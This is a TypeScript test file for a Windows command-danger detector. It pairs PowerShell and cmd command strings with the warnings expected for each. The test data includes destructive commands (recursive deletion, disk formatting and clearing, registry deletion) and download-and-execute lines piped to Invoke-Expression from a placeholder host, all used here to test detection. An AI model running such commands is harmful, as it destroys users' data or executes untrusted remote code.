import assert from "node:assert/strict";
import { windowsDangersOf } from "./windows.ts";

Deno.test("PowerShell commands and their aliases are checked by name, case aside", async (t) => {
  const cases: [string, string[]][] = [
    ["Remove-Item -Recurse -Force C:\\temp", ["removes files (Remove-Item)"]],
    ["ri x; del y", ["removes files (Remove-Item)"]],
    ["REMOVE-ITEM x", ["removes files (Remove-Item)"]],
    ["Get-ChildItem *.log | Remove-Item", ["removes files (Remove-Item)"]],
    ["Clear-Content log.txt", ["empties files (Clear-Content)"]],
    ["Format-Volume -DriveLetter D", ["formats a disk (Format-Volume)"]],
    ["Clear-Disk -Number 1 -RemoveData", ["erases a disk (Clear-Disk)"]],
    ["Stop-Computer -Force", ["shuts the machine down (Stop-Computer)"]],
    ["Restart-Computer", ["restarts the machine (Restart-Computer)"]],
    ["Stop-Process -Name notepad", ["kills processes (Stop-Process)"]],
    ["Set-ExecutionPolicy Unrestricted", [
      "lets any script run (Set-ExecutionPolicy)",
    ]],
    ["iex (iwr https://x.example/a.ps1)", [
      "runs a download in a shell (iwr … | iex)",
    ]],
    ["Invoke-WebRequest https://x.example | Invoke-Expression", [
      "runs a download in a shell (iwr … | iex)",
    ]],
    ["Invoke-Expression $code", [
      "runs a command it cannot see (Invoke-Expression)",
    ]],
    ["Start-Process pwsh -Verb RunAs", [
      "runs as administrator (Start-Process -Verb RunAs)",
    ]],
    ["Get-Process > procs.txt", ["overwrites a file (> procs.txt)"]],
    ["ls | Out-File list.txt", ["overwrites a file (Out-File)"]],
    ["Set-Content a.txt 'x'", ["overwrites a file (Set-Content)"]],
    ["ls | Out-File -Append list.txt", []],
    ["Get-Process >> procs.txt", []],
    ["Get-Process 2> $null", []],
    ["Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }", []],
    ["Write-Host 'Remove-Item is dangerous; Stop-Computer'", []],
    ["Get-Content README.md | Select-Object -First 5", []],
    ["iwr https://x.example -OutFile a.zip", []],
  ];
  for (const [command, expected] of cases) {
    await t.step(
      command,
      () => assert.deepEqual(windowsDangersOf(command, "powershell"), expected),
    );
  }
});

Deno.test("cmd commands are checked by name; rd only with /s, shutdown /a cancels", async (t) => {
  const cases: [string, string[]][] = [
    ["del /q *.tmp", ["removes files (del)"]],
    ["ERASE x.txt", ["removes files (del)"]],
    ["rd /s /q build", ["removes folders (rd /s)"]],
    ["rmdir /S old", ["removes folders (rd /s)"]],
    ["rmdir empty", []],
    ["format D: /q", ["formats a disk (format)"]],
    ["diskpart", ["changes a disk's partitions (diskpart)"]],
    ["shutdown /s /t 0", ["shuts the machine down (shutdown)"]],
    ["shutdown /a", []],
    ["taskkill /f /im node.exe", ["kills processes (taskkill)"]],
    ["reg delete HKCU\\Software\\App /f", [
      "deletes registry keys (reg delete)",
    ]],
    ["reg query HKCU\\Software", []],
    ["type a.txt > b.txt", ["overwrites a file (> b.txt)"]],
    ["dir > nul", []],
    ["echo x >> log.txt", []],
    ["dir /s *.txt && echo del is bad", []],
    ['powershell -NoProfile -Command "Remove-Item x"', [
      "removes files (Remove-Item)",
    ]],
    ["pwsh -c 'iwr https://x.example | iex'", [
      "runs a download in a shell (iwr … | iex)",
    ]],
  ];
  for (const [command, expected] of cases) {
    await t.step(
      command,
      () => assert.deepEqual(windowsDangersOf(command, "cmd"), expected),
    );
  }
});
